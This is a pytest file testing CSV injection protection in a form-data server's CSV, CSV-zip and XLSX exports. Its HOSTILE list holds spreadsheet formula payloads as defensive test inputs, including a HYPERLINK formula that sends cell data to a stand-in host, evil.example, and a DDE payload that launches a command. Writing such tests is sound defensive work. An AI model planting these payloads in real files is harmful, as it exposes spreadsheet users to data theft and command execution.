"""CSV injection (OWASP): text cells a spreadsheet would run as a formula are neutralised in CSV and CSV
zip exports by default; ``escapeFormulas=false`` keeps every value as sent; XLSX writes text cells,
which Excel never runs, so it keeps them as sent. Numbers are never touched."""

from __future__ import annotations

from typing import Any

import pytest

from tests.app.conftest import World
from tests.app.export_helpers import csv_rows, export_audits, get, read_xlsx, read_zip, url
from tests.app.odata_helpers import submit
from tests.app.openrosa_helpers import publish_xml

FORM = b"""<h:html xmlns="http://www.w3.org/2002/xforms" xmlns:h="http://www.w3.org/1999/xhtml">
<h:head><h:title>Notes</h:title><model><instance><data id="notes" version="1">
<note/><count/><item><what/></item><meta><instanceID/></meta></data></instance>
<bind nodeset="/data/note" type="string"/><bind nodeset="/data/count" type="int"/>
<bind nodeset="/data/item/what" type="string"/></model></h:head>
<h:body><input ref="/data/note"><label>Note</label></input><input ref="/data/count"><label>N</label></input>
<repeat nodeset="/data/item"><input ref="/data/item/what"><label>What</label></input></repeat>
</h:body></h:html>"""

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+2",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]
PLAIN = ["plain text", "a=b", "", "'already quoted"]


def _xml(n: int, note: str, what: str) -> str:
    from xml.sax.saxutils import escape

    return (
        f'<data id="notes" version="1"><note>{escape(note, {chr(13): "&#13;"})}</note><count>-{n}</count>'
        f"<item><what>{escape(what, {chr(13): '&#13;'})}</what></item>"
        f"<meta><instanceID>uuid:notes-{n}</instanceID></meta></data>"
    )


@pytest.fixture
def notes(world: World) -> list[str]:
    publish_xml(world, FORM)
    values = HOSTILE + PLAIN
    for n, value in enumerate(values):
        submit(world, "notes", _xml(n, value, value))
    return values


def _by_key(rows: list[dict[str, Any]], column: str, key: str = "KEY") -> dict[str, Any]:
    return {r[key].split("/")[0]: r[column] for r in rows}


def test_csv_and_csv_zip_neutralise_formula_cells_by_default(world: World, notes: list[str]) -> None:
    expected = {f"uuid:notes-{n}": ("'" + v if v in HOSTILE else v) for n, v in enumerate(notes)}
    root = csv_rows(get(world, "notes", "csv", reviewState="all").data)
    assert _by_key(root, "note") == expected
    files = read_zip(get(world, "notes", "csv.zip", reviewState="all").data)
    assert _by_key(files["notes.csv"], "note") == expected
    assert _by_key(files["notes-item.csv"], "what", "PARENT_KEY") == expected
    # Numbers are numbers: a negative count is not text and keeps its sign.
    assert _by_key(root, "count")["uuid:notes-3"] == "-3"


def test_escape_formulas_false_keeps_values_as_sent_and_is_audited(world: World, notes: list[str]) -> None:
    expected = {f"uuid:notes-{n}": v for n, v in enumerate(notes)}
    root = csv_rows(get(world, "notes", "csv", reviewState="all", escapeFormulas="false").data)
    # The csv module reads a bare CR inside a quoted cell back as it was written.
    assert _by_key(root, "note") == expected
    files = read_zip(get(world, "notes", "csv.zip", reviewState="all", escapeFormulas="false").data)
    assert _by_key(files["notes-item.csv"], "what", "PARENT_KEY") == expected
    options = [e.details["options"]["escapeFormulas"] for e in export_audits(world)]
    assert options == [False, False]
    get(world, "notes", "csv", reviewState="all")
    assert export_audits(world)[-1].details["options"]["escapeFormulas"] is True
    bad = world.client.get(
        url(world, "notes", "csv"), query_string={"escapeFormulas": "maybe"}, headers=world.headers("manager")
    )
    assert bad.status_code == 400 and bad.json["details"] == {"option": "escapeFormulas"}


def test_xlsx_writes_formula_like_values_as_text_cells(world: World, notes: list[str]) -> None:
    sheets = read_xlsx(get(world, "notes", "xlsx", reviewState="all").data)
    (root,) = [rows for name, rows in sheets.items() if name == "notes"]
    notes_by_key = {r["KEY"]: r["note"] for r in root}
    assert notes_by_key["uuid:notes-1"] == "=cmd|' /C calc'!A0"
    assert notes_by_key["uuid:notes-3"] == "-2+3" and isinstance(notes_by_key["uuid:notes-3"], str)
